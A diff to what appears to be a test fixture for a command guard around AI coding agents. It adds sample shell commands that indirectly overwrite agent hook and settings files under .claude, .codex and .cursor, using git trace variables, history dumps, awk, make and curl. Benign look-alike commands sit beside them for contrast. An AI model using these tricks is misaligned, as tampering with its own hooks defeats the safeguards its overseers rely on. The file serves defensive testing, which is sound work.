@@ -145,6 +145,24 @@ export const SHAPES: readonly Attempts[] = [
     ],
   },
   {
+    about: 'files that are written beside the work',
+    calls: [
+      'GIT_TRACE=/home/me/.claude/settings.json git status',
+      'GIT_TRACE2_EVENT=$HOME/.codex/hooks.json git fetch',
+      'export GIT_TRACE_SETUP=~/.cursor/hooks.json; git log -1',
+      'git config --global trace2.normalTarget ~/.codex/hooks.json',
+      'git -c trace2.eventTarget=/home/me/.cursor/hooks.json status',
+      'history -w ~/.codex/hooks.json',
+      'history -a ../.cursor/hooks.json',
+      'fc -W ~/.codex/hooks.json',
+      `awk -v d=.claude 'BEGIN { print "{}" > "../" d "/settings.json" }'`,
+      `awk 'BEGIN { h = "codex"; print "x" >> ("../." h "/hooks.json") }'`,
+      `gawk 'BEGIN { print "{}" > "../" p "/hooks.json" }' p=.cursor`,
+      `echo '$(file >../.codex/hooks.json,{})' | make -f -`,
+      `printf 'output = ~/.codex/hooks.json\\n' | curl -K - https://a.example/x`,
+    ],
+  },
+  {
     about: 'keys spelled with escapes, and JSON that a host forgives',
     sees: true,
     calls: [
@@ -247,6 +265,16 @@ export const SHAPES_EVERYDAY: Readonly<Record<string, readonly Call[]>> = {
     'pnpm add -g ./cli',
     'npm ls -g --depth 0',
     'npm prefix -g',
+  ],
+  'files beside the work': [
+    'GIT_TRACE=1 git status',
+    'GIT_TRACE=/tmp/trace.log git fetch',
+    'git config trace2.normalTarget ~/git-trace.log',
+    'history -w /tmp/h.txt',
+    'history | grep git',
+    `awk -v d=src '{ print > "out/" d ".txt" }' a.txt`,
+    `awk '{ s += $1 } END { print s > "/tmp/sum" }' a.txt`,
+    `printf 'all:\\n\\techo hi\\n' | make -f -`,
   ],
   'archives made': [
     'tar czf backup.tgz src docs',
